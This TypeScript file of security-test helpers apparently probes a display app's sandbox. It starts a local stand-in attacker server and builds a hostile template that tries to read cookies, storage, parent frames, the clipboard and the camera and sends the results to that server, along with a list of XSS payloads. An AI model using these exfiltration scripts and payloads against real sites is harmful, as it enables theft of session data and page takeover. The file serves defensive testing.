import { createServer } from 'node:http';

/** Starts the server of an attacker. The server accepts all data and allows every page to read its responses. */
export const openAttacker = async () => {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' });
    response.end('<title>Elsewhere</title>');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const port = typeof address === 'object' ? address?.port : 0;
  return { url: `http://127.0.0.1:${port}`, asked, close: () => server.close() };
};

/**
 * Returns a template that tries all attacks when it is shown. The page stores the result of each attempt in `outcomes`:
 * 'refused' with the reason, or 'GOT' with the data. The page sends the data to the attacker.
 */
export const hostileTemplate = (attacker: string) => `<h1>Hostile {{ words }}</h1>
<script>
var outcomes = {};
function got(name, value) {
  outcomes[name] = 'GOT ' + value;
  new Image().src = '${attacker}/got?' + encodeURIComponent(name + ' ' + value);
}
function attempt(name, act) {
  outcomes[name] = 'waiting';
  function refused(why) { outcomes[name] = 'refused: ' + ((why && why.name) || why); }
  try {
    Promise.resolve(act(refused)).then(function (value) {
      if (outcomes[name] === 'waiting') got(name, typeof value === 'object' ? 'an object' : value);
    }, refused);
  } catch (error) { refused(error); }
}
/** Makes an attempt whose success only the test or the attacker's server can detect. */
function silently(name, act) { attempt(name, function (refused) { act(); refused('watched'); }); }
function all(frames) { return Array.from({ length: frames.length }, function (_, at) { return frames[at]; }); }

function startAd() {
  attempt('localStorage', function () { return JSON.stringify(localStorage); });
  attempt('sessionStorage', function () { return JSON.stringify(sessionStorage); });
  attempt('cookie', function () { return document.cookie; });
  attempt('indexedDB', function () {
    return new Promise(function (done, fail) {
      var asked = indexedDB.open('marquee');
      asked.onsuccess = function () { done('a database'); };
      asked.onerror = function () { fail(asked.error); };
    });
  });
  attempt('caches', function () { return caches.keys(); });
  attempt('parent storage', function () { return parent.localStorage.length; });
  attempt('parent page', function () { return parent.document.title; });
  attempt('top page', function () { return top.document.title; });
  attempt('frame element', function (refused) { return frameElement ? 'a frame' : refused('none'); });
  attempt('other frames', function (refused) {
    // On a TV an overlay opens above this message. The preview has no other frame.
    return new Promise(function (done) {
      (function look() {
        var others = all(parent.frames).concat(all(top.frames)).filter(function (each) { return each !== window; });
        if (top === parent && others.length === 0) return setTimeout(look, 100);
        others.forEach(function (each) {
          try { got('other frames', each.document.body.innerText); } catch (error) { refused(error); }
          try { each.startAd(); got('other frames', 'called'); } catch (error) { refused(error); }
          each.postMessage({ type: 'show', page: '<h1>Overwritten</h1>', assets: [] }, '*');
        });
        if (others.length === 0) refused('none there');
        done();
      })();
    });
  });
  attempt('top navigation', function () { top.location.href = '${attacker}/top'; return 'navigated'; });
  attempt('parent navigation', function () { parent.location.replace('${attacker}/parent'); return 'navigated'; });
  attempt('popup', function (refused) { return window.open('${attacker}/popup') ? 'a window' : refused('none'); });
  silently('link to a new window', function () {
    var link = document.createElement('a');
    link.href = '${attacker}/link';
    link.target = '_blank';
    document.body.append(link);
    link.click();
  });
  ['_self', '_top', '_blank'].forEach(function (target) {
    silently('form to ' + target, function () {
      var form = document.createElement('form');
      form.method = 'post';
      form.action = '${attacker}/form';
      form.target = target;
      document.body.append(form);
      form.submit();
    });
  });
  attempt('fetch of the API', function () { return fetch('/api/messages', { credentials: 'include' }); });
  attempt('fetch of the player', function () { return fetch('/display/', { credentials: 'include' }); });
  attempt('fetch elsewhere', function () { return fetch('${attacker}/fetch'); });
  attempt('request', function () {
    return new Promise(function (done, fail) {
      var request = new XMLHttpRequest();
      request.open('GET', '/api/users/login');
      request.withCredentials = true;
      request.onload = function () { done(request.status); };
      request.onerror = function () { fail('error'); };
      request.send();
    });
  });
  silently('beacon', function () { navigator.sendBeacon('${attacker}/beacon', 'x'); });
  attempt('socket', function () {
    return new Promise(function (done, fail) {
      var socket = new WebSocket(parentOrigin().replace('http', 'ws') + '/api/link');
      socket.onopen = function () { done('open'); };
      socket.onerror = function () { fail('error'); };
    });
  });
  attempt('service worker', function () { return navigator.serviceWorker.register('/display/service-worker.js'); });
  attempt('worker', function () {
    return new Promise(function (done, fail) {
      var worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
      worker.onmessage = function () { done('runs'); };
      worker.onerror = function () { fail('error'); };
    });
  });
  attempt('eval', function () { return eval('1 + 1'); });
  silently('download', function () {
    var link = document.createElement('a');
    link.href = URL.createObjectURL(new Blob(['hostile']));
    link.download = 'hostile.txt';
    document.body.append(link);
    link.click();
  });
  silently('dialog', function () { alert('hostile'); });
  attempt('clipboard', function () { return navigator.clipboard.readText(); });
  attempt('camera', function () { return navigator.mediaDevices.getUserMedia({ video: true }); });
  attempt('place', function () {
    return new Promise(function (done, fail) { navigator.geolocation.getCurrentPosition(function () { done('here'); }, function (error) { fail(error.message); }); });
  });
  silently('words to the player', function () {
    [parent, top].forEach(function (each) {
      each.postMessage({ type: 'data', page: '<h1>Overwritten</h1>', shape: '16:9', seconds: 60, assets: [] }, '*');
      each.postMessage({ type: 'hello' }, '*');
      each.postMessage({ type: 'key', key: 'Back' }, '*');
    });
  });
  silently('the web app within', function () {
    var frame = document.createElement('iframe');
    frame.src = parentOrigin() + '/messages';
    document.body.append(frame);
  });
}
function parentOrigin() { return location.ancestorOrigins[0]; }
</script>`;

/**
 * Returns an answer with attacks as markup, because only templates decide which scripts run. Each attack that runs posts its name
 * to the top page.
 */
export const hostileAnswer = (attacker: string) => {
  const run = (name: string) => `top.postMessage('ran ${name}','*')`;
  return [
    '<h1>Hostile answer</h1>',
    `<script>${run('script')}</script>`,
    `<script nonce="nonce-of-this-showing">${run('placeholder')}</script>`,
    `<img src="x:" onerror="${run('handler')}">`,
    `<svg onload="${run('svg')}"><script>${run('svg-script')}</script></svg>`,
    `<details open ontoggle="${run('toggle')}">a</details>`,
    `<input autofocus onfocus="${run('focus')}">`,
    `<iframe src="javascript:${run('javascript')}"></iframe>`,
    `<iframe srcdoc="<script>${run('srcdoc')}</script>"></iframe>`,
    `<iframe src="data:text/html,<script>${run('data')}</script>"></iframe>`,
    `<object data="data:text/html,<script>${run('object')}</script>"></object>`,
    `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run('embed').replaceAll("'", '"')}'/>">`,
    `<form id="f" method="post" action="${attacker}/form"></form><script>document.getElementById('f').submit()</script>`,
    `<base href="${attacker}/"><img src="/content/based.png">`,
    `<link rel="modulepreload" href="${attacker}/module.js"><script src="${attacker}/script"></script>`,
    `{{ 'liquid' | append: '-ran' }}`,
    `</main><script>${run('breakout')}</script>`,
    `<img src="${attacker}/picture">`,
    `<meta http-equiv="refresh" content="0;url=${attacker}/refresh">`,
    `<iframe src='${attacker}/frame' name='`,
  ].join('\n');
};
